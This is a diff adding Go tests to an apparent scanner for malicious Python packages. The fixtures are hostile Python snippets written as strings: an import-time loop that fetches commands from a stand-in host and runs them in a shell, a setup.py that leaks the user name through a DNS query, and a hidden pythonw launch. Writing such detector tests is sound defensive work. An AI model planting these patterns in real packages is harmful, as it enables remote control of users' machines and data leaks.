@@ -267,3 +267,36 @@ func TestHostInfoThroughShell(t *testing.T) {
 		t.Errorf("version from git in a download URL: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestCommandsFromTheWeb(t *testing.T) {
+	c2 := "import requests, subprocess, time\ndef loop():\n    while True:\n        task = requests.get('https://example.invalid/task').text\n        subprocess.run(task, shell=True)\n        time.sleep(5)\nloop()\n"
+	r := sdist(t, map[string]string{"p/__init__.py": c2})
+	if r.Verdict != Malicious || !hasRule(r, "reverse-shell", Critical) {
+		t.Errorf("command-and-control loop on import: %s %+v", r.Verdict, r.Findings)
+	}
+	// A download URL from an API handed to a known program is not a shell.
+	r = sdist(t, map[string]string{"p/up.py": "import requests, subprocess\ndef update():\n    url = requests.get('https://example.invalid/latest').json()['url']\n    subprocess.run(['git', 'clone', url])\n"})
+	if hasRule(r, "reverse-shell", Info) {
+		t.Errorf("git clone of a fetched URL: %s %+v", r.Verdict, r.Findings)
+	}
+}
+
+func TestHostNameAndNetworkAtInstall(t *testing.T) {
+	probe := "import socket, getpass\ndef dns(name):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    pkt = b'\\x12\\x34' + name.encode()\n    s.sendto(pkt, ('127.0.0.53', 53))\nuser = getpass.getuser()\ndns(user + '.example.invalid')\n"
+	r := sdist(t, map[string]string{"setup.py": probe})
+	if r.Verdict != Malicious || !hasRule(r, "exfiltrates-host-info", Critical) {
+		t.Errorf("user name and a hand-made DNS query at install: %s %+v", r.Verdict, r.Findings)
+	}
+	// Asking for the platform before downloading a prebuilt library is a build.
+	r = sdist(t, map[string]string{"setup.py": "import platform, urllib.request\narch = platform.machine()\nurllib.request.urlretrieve('https://example.invalid/lib-%s.tgz' % arch, 'lib.tgz')\n"})
+	if r.Verdict == Malicious {
+		t.Errorf("platform-specific download: %s %+v", r.Verdict, r.Findings)
+	}
+}
+
+func TestWindowlessScriptOnImport(t *testing.T) {
+	r := sdist(t, map[string]string{"p/__init__.py": "import subprocess, os\nsubprocess.Popen(['pythonw', os.path.join(os.path.dirname(__file__), 'svc.py')])\n"})
+	if r.Verdict == Clean || !hasRule(r, "suspicious-command", High) {
+		t.Errorf("pythonw on import: %s %+v", r.Verdict, r.Findings)
+	}
+}
